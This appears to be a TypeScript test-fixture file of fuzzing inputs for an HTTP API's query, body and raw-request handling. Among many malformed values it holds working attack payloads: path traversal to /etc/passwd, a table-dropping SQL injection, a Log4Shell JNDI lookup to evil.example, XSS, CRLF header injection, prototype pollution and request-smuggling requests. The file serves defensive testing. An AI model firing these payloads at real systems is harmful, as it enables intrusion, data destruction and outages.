/** Texts where an id, a word or a number is expected. */
export const TEXTS: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../../etc/passwd',
  "' or 1=1; drop table log.event; --",
  '1); select pg_sleep(9); --',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e999',
  '9007199254740993',
  '99999999999999999999999999999999',
  '0x10',
  'a\0b',
  'a\r\nSet-Cookie: session_token=x',
  '\u202egnp.exe',
  '\ufeffid',
  'e\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦',
  '\ud800',
  'x'.repeat(5000),
  '%',
  '*',
];

/** What decodes to nothing, or to something else than it seems. */
export const BAD_PERCENT: readonly string[] = [
  '%',
  '%0',
  '%E0%A4%A',
  '%ff%fe',
  '%C0%AF',
  '%00',
  '%0d%0aX-Evil:1',
  '%2e%2e%2f',
];

export const QUERIES: readonly string[] = [
  'limit=1&limit=2&offset=1&offset=2&syncId=a&syncId=b&cursor=a&cursor=b&status=a&status=b',
  '__proto__[polluted]=1&constructor[prototype][polluted]=1&__proto__=1',
  'limit[]=1&limit[$gt]=1&syncId[]=a',
  '&&&===&=&a',
  `${'a&'.repeat(1500)}a`,
  `q=${'x'.repeat(7000)}`,
];

/** Names that queries of ours have. */
export const QUERY_NAMES: readonly string[] = [
  ...['limit', 'offset', 'cursor', 'status', 'tier', 'type', 'syncId', 'id', 'window', 'q'],
  ...['state', 'spapi_oauth_code', 'selling_partner_id', 'token', 'provider', 'purge'],
  ...['redirect_uri', 'frontend_url', 'since', 'format'],
];

const DEEP = `${'['.repeat(30_000)}${']'.repeat(30_000)}`;

/** Bodies with a JSON content type. */
export const BODIES: readonly (string | Buffer)[] = [
  ...['[]', '"text"', '1', '-0', 'true', '[[[]]]', '{"a":{"b":{"c":1}}}', '{', '}', "{'a':1}"],
  ...['{"a":1}{"b":2}', '1e999', '{"amount":1e999}', '{"a":NaN}', '\ufeff{}', '{"a":"\\ud800"}'],
  ...['{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', DEEP],
  `{"a":${DEEP}}`,
  `{"a":"${'x'.repeat(70_000)}"}`,
  `{"a":${'9'.repeat(60_000)}}`,
  `{${Array.from({ length: 4000 }, (_, n) => `"k${n}":${n}`).join(',')}}`,
  '{"a":"\\u0000"}',
  '{"toString":1,"hasOwnProperty":1,"toJSON":1}',
  Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  Buffer.alloc(1000),
];

/** What a member of a body may be instead of what it should. */
export const VALUES: readonly unknown[] = [
  ...[
    null,
    true,
    0,
    -1,
    1.5,
    1e308,
    Number.MAX_SAFE_INTEGER,
    [],
    {},
    [[]],
    [null],
    { a: { b: 1 } },
  ],
  ...['', '\0', '\ud800', "' or 1=1; --", '../../etc/passwd', 'x'.repeat(5000), '2026-13-45'],
];

export const CONTENT_TYPES: readonly string[] = [
  ...['text/plain', 'text/xml', 'application/x-www-form-urlencoded', 'multipart/form-data'],
  ...['multipart/form-data; boundary=x', 'application/octet-stream', 'application/json+evil'],
  ...['application/json; charset=utf-16', 'application/jsonx', 'a', '/', ';', '*/*', ''],
];

/** Bytes that no client library would send. */
export const RAW: readonly string[] = [
  'HELLO\r\n\r\n',
  'GET\r\n\r\n',
  'GET /\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
  'GET /a\0b HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /api/sync/status/\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nX-Bad: a\0b\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nX Bad: a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\n folded: a\r\n\r\n',
  'GET / HTTP/1.1\nHost: a\n\n',
  'get / HTTP/1.1\r\nHost: a\r\n\r\n',
  'EVIL / HTTP/1.1\r\nHost: a\r\n\r\n',
  'TRACE / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'CONNECT evil.example:443 HTTP/1.1\r\nHost: a\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET http://evil.example/api/sync/status HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET //evil.example/%2e%2e HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET /api/sync/status?a=b#c HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  'GET ? HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
  `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET / HTTP/1.1\r\nHost: a\r\n${'X-A: b\r\n'.repeat(3000)}\r\n`,
  'POST /api/sync/start HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n',
  'POST /api/sync/start HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
  'POST /api/sync/start HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'POST /api/sync/start HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: evil\r\n\r\n',
  'POST /api/auth/logout HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n',
  'GET /api/auth/me HTTP/1.1\r\nHost: a\r\nExpect: evil\r\nConnection: close\r\n\r\n',
  'GET /api/auth/me HTTP/1.1\r\nHost: a\r\nUpgrade: evil\r\nConnection: upgrade\r\n\r\n',
  'GET /api/auth/me HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n',
  'GET /api/auth/me HTTP/1.1\r\nHost: a\r\nCookie: session_token=\xff; ;;=\r\nConnection: close\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
];
